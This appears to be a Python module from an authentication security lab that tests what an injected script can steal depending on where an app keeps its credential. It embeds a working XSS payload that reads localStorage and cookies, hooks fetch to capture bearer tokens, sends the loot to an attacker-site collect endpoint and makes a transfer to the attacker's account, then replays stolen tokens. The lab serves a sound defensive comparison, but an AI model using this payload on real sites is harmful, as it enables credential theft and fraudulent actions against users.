"""XSS exposure: what a script injected into a page of the app can steal and do.

The page is the app's single-page app at the app's origin (see browser.py). Where
the app keeps a credential that travels in a header is the lab's setting: in
localStorage (the article's advice) or in a variable of the app's own code
("memory"); a cookie app leaves its credential in an HttpOnly cookie. The
injected script reads localStorage and document.cookie, then wraps fetch and
makes the app send a request of its own (a click on the app's button), which
is how a script gets at a token it cannot read at rest; it sends its loot to
the attacker's site and uses the app from inside its origin (a /transfer with
whatever credential and CSRF token it found). The lab then replays the loot
from outside the browser: a stolen token works anywhere until it expires; an
HttpOnly cookie is never in the loot. Either way the script acts as the user
while it runs, so the article's advice trades CSRF for XSS rather than
escaping both.
"""

from __future__ import annotations

import json
from typing import Any

import httpx

from authlab.security.browser import AppTab, AttackerSite, Storage
from authlab.security.csrf_browser import Accounts, log_in
from authlab.security.lab_servers import LabServer

XSS_AMOUNT = 13
_PAYLOAD = """
(async () => {
  const loot = {
    local_storage: Object.fromEntries(Object.entries(localStorage)),
    document_cookie: document.cookie,
    in_flight: null,
  };
  // A token the app keeps out of reach still leaves with the app's own requests.
  const original = window.fetch;
  window.fetch = function (input, init) {
    try {
      const header = new Headers((init && init.headers) || {}).get("authorization");
      if (header && !loot.in_flight) loot.in_flight = header.replace(/^Bearer /, "");
    } catch (error) {}
    return original.apply(this, arguments);
  };
  const who = document.getElementById("who");
  document.getElementById("refresh").click();
  for (let i = 0; i < 40 && !who.textContent && !loot.in_flight; i++) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  window.fetch = original;
  try {
    await fetch(%(collect)s, {method: "POST", mode: "no-cors", body: JSON.stringify(loot)});
  } catch (error) { loot.exfiltration_error = String(error); }
  // Ride the user's credential from inside the origin: CSRF checks do not stop this.
  const csrf = (document.cookie.match(/(?:^|; )csrf_token=([^;]*)/) || [])[1];
  const headers = {"content-type": "application/json"};
  if (csrf) headers["x-csrf-token"] = decodeURIComponent(csrf);
  const bearer = loot.local_storage.access_token || loot.in_flight;
  if (bearer) headers["authorization"] = "Bearer " + bearer;
  const response = await fetch("/transfer", {
    method: "POST", credentials: "same-origin", headers,
    body: JSON.stringify({to: %(attacker)s, amount: %(amount)d}),
  });
  window.__xss = {loot, transfer_status: response.status};
})();
"""


def _cookie_names(document_cookie: str) -> list[str]:
    return sorted(
        part.split("=", 1)[0].strip() for part in document_cookie.split(";") if part.strip()
    )


def storage_for(server: LabServer, wanted: Storage) -> Storage:
    """A cookie credential is kept by the browser, whatever the setting says."""
    return "cookie" if server.config.ambient else wanted


def run_xss(
    tab: AppTab, server: LabServer, site: AttackerSite, accounts: Accounts
) -> dict[str, Any]:
    config = server.config
    log_in(tab, server, accounts)
    collect_path = f"/collect/{tab.browser}/{tab.storage}/{server.name}"
    payload = _PAYLOAD % {
        "collect": json.dumps(f"{site.origin}{collect_path}"),
        "attacker": json.dumps(accounts.attacker),
        "amount": XSS_AMOUNT,
    }
    # Stands for a stored XSS: a script element in the app's page, in the app's origin.
    tab.add_script(payload)
    tab.wait_for("window.__xss !== undefined")
    inside: dict[str, Any] = tab.evaluate("() => window.__xss")
    loot: dict[str, Any] = inside["loot"]
    exfiltrated = site.collected(collect_path)
    stolen = json.loads(exfiltrated[-1]) if exfiltrated else {}
    local_storage: dict[str, str] = stolen.get("local_storage", {})
    in_flight: str | None = stolen.get("in_flight")
    cookie_names = _cookie_names(stolen.get("document_cookie", ""))
    at_rest = "access_token" in local_storage
    token = local_storage.get("access_token") or in_flight
    replay = _replay_elsewhere(server, token, local_storage, stolen.get("document_cookie", ""))
    credential_cookie_visible = bool(config.cookie_name and config.cookie_name in cookie_names)
    expected = {
        "localStorage": (True, True),  # (readable at rest, stolen at all)
        "memory": (False, True),
        "cookie": (False, False),
    }[tab.storage]
    observed = (at_rest, token is not None)
    return {
        "configuration": server.name,
        "browser": tab.browser,
        "storage": tab.storage,
        "local_storage_keys": sorted(local_storage),
        "document_cookie_names": cookie_names,
        "token_in_local_storage": at_rest,
        "token_captured_in_flight": in_flight is not None,
        "token_stolen": token is not None,
        "credential_cookie_visible": credential_cookie_visible,
        "csrf_cookie_visible": "csrf_token" in cookie_names,
        "exfiltrated": bool(exfiltrated),
        "stolen_access_token_me_status": replay.get("me"),
        "stolen_refresh_token_status": replay.get("refresh"),
        "same_origin_transfer_status": inside["transfer_status"],
        "expected_token_exposed": expected[0],
        "expected_token_stolen": expected[1],
        "passed": (
            not credential_cookie_visible
            and observed == expected
            and bool(exfiltrated)
            and loot.get("document_cookie", "") == stolen.get("document_cookie", "")
        ),
        "detail": _detail(tab.storage, at_rest, in_flight, credential_cookie_visible, replay)
        + f"; the script's own /transfer: {inside['transfer_status']}",
    }


def _replay_elsewhere(
    server: LabServer, token: str | None, local_storage: dict[str, str], document_cookie: str
) -> dict[str, int]:
    """Use the loot from outside the browser, as the attacker would."""
    results: dict[str, int] = {}
    with httpx.Client(base_url=server.base_url, timeout=30) as client:
        if token:
            results["me"] = client.get(
                "/me", headers={"authorization": f"Bearer {token}"}
            ).status_code
        elif document_cookie:
            results["me"] = client.get("/me", headers={"cookie": document_cookie}).status_code
        refresh = local_storage.get("refresh_token")
        if refresh:
            results["refresh"] = client.post(
                "/refresh", json={"refresh_token": refresh}
            ).status_code
    return results


def _detail(
    storage: Storage,
    at_rest: bool,
    in_flight: str | None,
    cookie_visible: bool,
    replay: dict[str, int],
) -> str:
    if at_rest:
        text = f"token read from {storage}, replayed elsewhere: /me {replay.get('me')}"
        if "refresh" in replay:
            text += f"; refresh token too: /refresh {replay['refresh']}"
        return text
    if in_flight:
        return (
            f"token not readable in {storage}, but captured from the app's own request "
            f"(fetch wrapped); replayed elsewhere: /me {replay.get('me')}"
        )
    if cookie_visible:
        return "credential cookie readable by script (not HttpOnly)"
    return f"HttpOnly credential not readable; replaying the loot: /me {replay.get('me')}"
